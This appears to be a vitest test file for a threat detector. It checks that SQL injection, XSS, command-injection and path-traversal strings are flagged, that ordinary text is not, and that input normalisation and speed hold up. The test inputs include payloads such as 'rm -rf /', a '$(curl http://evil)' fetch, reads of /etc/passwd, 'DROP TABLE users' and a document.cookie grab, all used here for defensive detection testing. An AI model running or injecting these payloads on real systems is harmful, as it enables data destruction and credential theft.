import { describe, expect, it } from 'vitest';
import { CHANNELS, subscribe, type ThreatDetectedEvent } from '../instrumentation/channels';
import { createThreatDetector, detectThreats, normalizeForThreatDetection } from './threats';

describe('detectThreats (defence in depth)', () => {
  it.each([
    ["' OR '1'='1", 'sql_injection'],
    ['1; DROP TABLE users', 'sql_injection'],
    ['x UNION ALL SELECT password FROM users', 'sql_injection'],
    ["admin'--", 'sql_injection'],
    ['1 AND SLEEP(5)', 'sql_injection'],
    ['<script>alert(1)</script>', 'xss'],
    ['<img src=x onerror=alert(1)>', 'xss'],
    ['javascript:alert(document.cookie)', 'xss'],
    ['%3Csvg%20onload%3Dalert(1)%3E', 'xss'],
    ['&#x3C;script&#x3E;', 'xss'],
    ['test; rm -rf /', 'command_injection'],
    ['$(curl http://evil)', 'command_injection'],
    ['a && cat /etc/hosts', 'command_injection'],
    ['`whoami`', 'command_injection'],
    ['../../etc/passwd', 'path_traversal'],
    ['..\\..\\windows\\win.ini', 'path_traversal'],
    ['%2e%2e%2f%2e%2e%2fsecret', 'path_traversal'],
    ['%252e%252e%252fsecret', 'path_traversal'],
  ])('labels %j as %s', (text, kind) => {
    expect(detectThreats(text)).toContain(kind);
  });

  it.each([
    'Hello, how are you?',
    "I'd like to select a shift from the list, or cancel",
    'Meet me at 5 & bring the cat',
    'Version 1.2.3... coming soon',
    'online = yes',
    'Please update my phone number to +49 151 2345678',
    'Tom & Jerry <3',
    'Отмена заявки №42',
  ])('leaves ordinary text %j unlabelled', (text) => {
    expect(detectThreats(text)).toEqual([]);
  });

  it('publishes the kinds found and the source label, and nothing for clean text', () => {
    const events: ThreatDetectedEvent[] = [];
    const unsubscribe = subscribe(CHANNELS.threatDetected, (event) => events.push(event));
    detectThreats('hello', 'message_text');
    detectThreats("'; DROP TABLE x; <script>", 'message_text');
    unsubscribe();
    expect(events).toEqual([{ kinds: ['sql_injection', 'xss'], source: 'message_text' }]);
  });

  it('looks only for the configured kinds and only within maxInputLength', () => {
    const xssOnly = createThreatDetector({ kinds: ['xss'] });
    expect(xssOnly("' OR 1=1 <script>")).toEqual(['xss']);
    const short = createThreatDetector({ maxInputLength: 10 });
    expect(short(`${'a'.repeat(10)}<script>`)).toEqual([]);
    expect(() => createThreatDetector({ kinds: ['nope' as 'xss'] })).toThrow(TypeError);
  });

  it('stays fast on large adversarial input', () => {
    const started = performance.now();
    for (const unit of ['<a ', "' or ", '../', '%25', '&#x', 'on', '$(']) {
      detectThreats(unit.repeat(20_000));
    }
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('normalises percent and entity encodings twice, case and whitespace', () => {
    expect(normalizeForThreatDetection('%253C  ScRiPt\t&#62;')).toBe('< script >');
  });
});
